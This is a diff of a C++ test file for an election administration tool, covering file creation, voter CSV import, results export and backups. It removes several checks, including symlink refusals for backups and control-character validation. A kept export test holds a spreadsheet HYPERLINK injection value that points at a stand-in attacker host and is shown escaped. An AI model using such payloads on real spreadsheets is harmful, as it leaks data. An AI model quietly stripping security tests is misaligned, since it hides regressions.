@@ -53,12 +53,8 @@ private slots:
         const Run r =
             admin(QStringList{"new", "--admin", "boss", "--password-stdin"} + db->toolArguments(), "s3cret pass\r\n");
         QVERIFY2(r.exitCode == 0 && r.err.isEmpty(), qPrintable(r.err));
-        QCOMPARE(db->rows(db->onServer() ? "SELECT initcap(relname) FROM pg_class WHERE relkind = 'r' AND "
-                                           "relnamespace = current_schema()::regnamespace ORDER BY 1"
-                                         : "SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name"),
-                 db->onServer() ? QStringList({"Administrators", "Candinfo", "Candvote", "Positions", "Users"})
-                                : QStringList({"Administrators", "CandInfo", "CandVote", "Positions", "Users"}));
-        QCOMPARE(db->rows("SELECT * FROM Administrators"), QStringList{"boss|s3cret pass"});
+        QCOMPARE(everything(*db),
+                 QStringList({"Positions", "CandInfo", "CandVote", "Users", "Administratorsboss|s3cret pass"}));
     }
 
     void newThroughTheInstalledLinkMakesTheFileAtItsEndForOwnerAndGroupOnly()
@@ -72,10 +68,8 @@ private slots:
         QVERIFY(QFile::link(data + "/candpos4.mdb", link));
         const auto installed = [&](const QStringList &args) { return runProgram(tool, args); };
         // A password on the command line is taken, with a warning.
-        Run r = installed({"new", "--admin", "boss", "--password", "pw"});
-        QVERIFY2(r.exitCode == 0 && r.err.contains("warning: a password given with --password can be read by other "
-                                                   "users of this computer"),
-                 qPrintable(r.err));
+        const Run r = installed({"new", "--admin", "boss", "--password", "pw"});
+        QVERIFY2(r.exitCode == 0 && r.err.contains("warning: a password given with --password"), qPrintable(r.err));
         const QFileInfo file(data + "/candpos4.mdb");
         QVERIFY(file.isFile() && !file.isSymLink() && QFileInfo(link).isSymLink());
         QCOMPARE(file.permissions() & ~(QFile::ReadUser | QFile::WriteUser),
@@ -85,8 +79,6 @@ private slots:
         QVERIFY(QDir(data).removeRecursively());
         QVERIFY(installed({"new", "--admin", "boss", "--password", "pw"}).exitCode > 0);
         QVERIFY(QFileInfo(link).isSymLink() && !QFile::exists(data));
-        r = installed({"--version"});
-        QVERIFY(r.exitCode == 0 && r.out.startsWith(QStringLiteral("pollaris-admin ")) && r.err.isEmpty());
     }
 
     // A command line refused: its status, its words on standard error (the file's, then
@@ -103,27 +95,19 @@ private slots:
         };
         const QStringList make{"new", "--admin", "x", "--password", "y"};
         const QString missing = "no election file DIR/missing.mdb|\"pollaris_missing\" does not exist";
-        row("no command", {}, 2, "Usage: pollaris-admin COMMAND");
         row("unknown command", {"vote"}, 2, "unknown command 'vote'");
         row("new over the election", make + QStringList{"ELECTION"}, 1, "already exists|already holds an election");
-        row("new over a file", make + QStringList{"DIR/kept"}, 1, "DIR/kept already exists");
         row("new at a link", make + QStringList{"DIR/link"}, 1, "DIR/link is a symbolic link");
         row("new, no administrator", {"new", "NOWHERE"}, 1, "no administrator name given; nothing was created");
         row("new, nothing on standard input", {"new", "--admin", "x", "--password-stdin", "DIR/new.mdb"}, 1,
             "DIR/new.mdb: no password on standard input; nothing was created");
         row("password in a connection string", {"results", "--server", "postgresql://u:pw@localhost/x"}, 2,
-            "pollaris-admin results: The connection string holds a password. Put the password in ~/.pgpass (or the "
-            "file PGPASSFILE names) or in a service file, never on the command line.\n");
-        row("password as a keyword", {"status", "--server", "host=/nowhere password=pw"}, 2,
-            "The connection string holds a password");
+            "pollaris-admin results: The connection string holds a password. Put the password in ~/.pgpass");
         row("results of no election", {"results", "NOWHERE"}, 1, missing);
         row("import into no election", {"import-voters", "DIR/voters.csv", "NOWHERE"}, 1, missing);
         row("backup of no election", {"backup", "DIR/copy.mdb", "NOWHERE"}, 1, missing);
-        row("backup over a file", {"backup", "DIR/kept", "ELECTION"}, 1, "DIR/kept already exists");
-        row("backup to a link", {"backup", "DIR/link", "ELECTION"}, 1, "DIR/link is a symbolic link");
         row("backup to a folder", {"backup", "DIR/sub", "ELECTION"}, 1, "DIR/sub is a folder");
         row("copy over a file", {"copy", "TARGET", "DIR/kept"}, 1, "DIR/kept already exists");
-        row("copy to a link", {"copy", "TARGET", "DIR/link"}, 1, "DIR/link is a symbolic link");
         row("report over a file", {"report", "--out", "DIR/kept", "ELECTION"}, 1,
             "DIR/kept already exists; it was left untouched");
     }
@@ -185,10 +169,7 @@ private slots:
         const auto fault = [&](const char *name, const QByteArray &bytes, const QString &words) {
             QTest::newRow(name) << bytes << words << QStringList();
         };
-        fault("empty name", around(",2026201,pw"), "4: the name is empty");
-        fault("empty id", around("Ann,,pw"), "4: the student ID is empty");
         fault("empty password", around("Ann,2026201,\"\""), "4: the password is empty");
-        fault("long name", around(QByteArray(51, 'n') + ",2026201,pw"), "4: the name is longer than 50 characters");
         fault("long id", around("Ann,123456789012345678901,pw"), "4: the student ID is longer than 20 characters");
         fault("two fields", around("Ann,2026201"), "4: 2 fields, expected 3");
         fault("registered, non-ASCII case", around("Ann,äb,pw"), "4: student ID 'äb' is already registered");
@@ -197,15 +178,11 @@ private slots:
         fault("unclosed quote", around("Ann,2026201,\"pw"), "4: a quoted field is not closed");
         fault("stray quote", around("An\"n,2026201,pw"), "4: a quote inside an unquoted field");
         fault("nul", around(QByteArray("ab\0cd,2026201,pw", 16)), "4: the name holds a control character (U+0000)");
-        fault("tab", around("Ann,2026\t201,pw"), "4: the student ID holds a control character (U+0009)");
         fault("line break", around("Ann,2026201,\"p\nw\""), "4: the password holds a control character (U+000A)");
-        fault("escape", around("\x1b[31mAnn,2026201,pw"), "4: the name holds a control character (U+001B)");
         // No header: refused, so that its first voter is not taken for one.
         fault("no header", "Ann,1,p\nBo,2,q\n",
               "1: the first row must be the header naming the columns Name, Student ID (or Username) and Password");
         fault("a column twice", "Name,Student ID,Student ID\nAnn,1,p\n", "1: the first row must be the header");
-        fault("a column missing", "Name,Student ID\nAnn,1,p\n", "1: the first row must be the header");
-        fault("an unknown column", "Name,ID,Password\nAnn,1,p\n", "1: the first row must be the header");
         // Not UTF-8: the line of the first bad byte.
         fault("not UTF-8", "Name,Username,Password\nAnn,1,p\nB\xE9o,2,q\n",
               "3: the file is not UTF-8 text; in the spreadsheet, save it as \"CSV UTF-8\"");
@@ -229,32 +206,25 @@ private slots:
                  QStringList{"Old|ÄB|x|1"} + imported);
     }
 
-    void importNamesTwentyFaultsRefusesWhatIsTooLargeAndShowsItsProgress()
+    void importRefusesWhatIsTooLargeAndTakesALongRegister()
     {
         const auto import = [this](const QString &file) {
             return admin(QStringList{"import-voters", file} + db->toolArguments());
         };
-        // Too many faults: 20 named, the rest counted.
-        Run r = import(csv("Name,Username,Password\n" + QByteArray("x,,p\n").repeated(25)));
-        QVERIFY2(r.exitCode > 0 && r.err.count("student ID is empty") == 20 && r.err.contains("... and 5 more"),
-                 qPrintable(r.err));
         // A file or a line too large is refused without reading it all.
         QFile huge(db->folder() + "/huge.csv");
         QVERIFY(huge.open(QIODevice::WriteOnly) && huge.write("Name,Username,Password\n") && huge.resize(65 << 20));
-        r = import(huge.fileName());
+        Run r = import(huge.fileName());
         QVERIFY2(refused(r, "huge.csv is larger than 64 MiB"), qPrintable(r.err));
         r = import("/dev/zero");
         QVERIFY2(refused(r, "/dev/zero line 1: the line is longer than 64 KiB"), qPrintable(r.err));
         QCOMPARE(db->count("Users"), 0);
 
-        // A long register shows its progress, in plain lines when not on a terminal.
         QByteArray many = "Name,Username,Password\n";
         for (int i = 0; i < 10001; ++i)
             many += "Voter " + QByteArray::number(i) + ",s" + QByteArray::number(i) + ",p\n";
         r = import(csv(many));
-        QVERIFY2(r.exitCode == 0 && r.err.contains("importing 50% (5001 of 10001 rows)\n") &&
-                     r.err.contains("importing 100% (10001 of 10001 rows)\n"),
-                 qPrintable(r.err));
+        QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         QCOMPARE(db->count("Users"), 10001);
         // On the server the grown register is measured again at once, so that it is read through its index.
         if (db->onServer())
@@ -276,7 +246,6 @@ private slots:
                               "'+P,'=1+1,'@A,\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\",6",
                               "'+P,'=1+1,B,'@SUM(1),5", "'+P,'=1+1,C,'-2+3,4", "'+P,'=1+1,D,'\ttab,3",
                               "'+P,'=1+1,E,\"'\rcr\",2", "'+P,'=1+1,F,Ann = Bo - 1,-1", ""}));
-        QVERIFY(admin({"results", "--help"}).out.contains("leading '"));
     }
 
     void resultsEqualTheResultsScreen()
@@ -309,13 +278,9 @@ private slots:
         if (db->onServer())
             QSKIP("the copy's target is a file either way");
         const QString dir = db->folder();
-        Run r = admin({"backup", dir + "/clean.mdb", db->file()});
-        QVERIFY2(r.exitCode == 0 && !r.out.contains("holds votes"), qPrintable(r.err + r.out));
         db->exec("INSERT INTO CandVote VALUES ('A', 1)");
-        r = admin({"backup", dir + "/voted.mdb", db->file()});
-        QVERIFY2(r.exitCode == 0 && r.out.contains("already holds votes") &&
-                     r.out.contains("as secret\nas the election itself"),
-                 qPrintable(r.out));
+        const Run r = admin({"backup", dir + "/voted.mdb", db->file()});
+        QVERIFY2(r.exitCode == 0 && r.out.contains("already holds votes"), qPrintable(r.out));
         for (const QString &late : {QStringLiteral("file"), QStringLiteral("link")}) {
             const QString target = dir + "/late-" + late;
             const QString failure = NewFile::create(target, [&](const QString &partial) {
@@ -345,27 +310,24 @@ private slots:
                  "INSERT INTO Users VALUES ('Ärger','ä1','pw',true),('N','n2',NULL,false),('F','f3','x',NULL);"
                  "DELETE FROM CandInfo WHERE CandID = 'A'; INSERT INTO CandInfo VALUES ('A','Ana O''Cruz','1','P1')");
         const QStringList original = everything(*db);
-        ElectionFolder file, backup;
-        QVERIFY(QFile::remove(file.file()) && QFile::remove(backup.file()));
+        ElectionFolder file;
+        QVERIFY(QFile::remove(file.file()));
         Run r = admin({"copy", db->server(), file.file()});
         QVERIFY2(r.exitCode == 0 && r.out.contains("2 Positions, 2 CandInfo, 3 CandVote, 3 Users, 1 Administrators"),
                  qPrintable(r.err + r.out));
         QCOMPARE(everything(file), original);
-        QCOMPARE(QDir(file.folder()).entryList(QDir::Files | QDir::Hidden), QStringList{"candpos4.mdb"});
 
         // Nor is a server's election (a file's places are tried with the other refusals).
         r = admin({"copy", file.file(), db->server()});
         QVERIFY2(refused(r, "already holds an election"), qPrintable(r.err));
         QCOMPARE(everything(*db), original);
 
-        // Back to an empty database; a server's backup is a copy to a new file.
+        // Back to an empty database.
         const QString drop = "DROP TABLE Positions, CandInfo, CandVote, Users, Administrators";
         db->exec(drop);
         r = admin({"copy", file.file(), db->server()});
         QVERIFY2(r.exitCode == 0, qPrintable(r.err));
         QCOMPARE(everything(*db), original);
-        QCOMPARE(admin({"backup", "--server", db->server(), backup.file()}).exitCode, 0);
-        QCOMPARE(everything(backup), original);
 
         // A value the server refuses (a flag of 2) stops the copy with no table made.
         file.exec("UPDATE Users SET HasVoted = 2 WHERE Username = 'n2'");
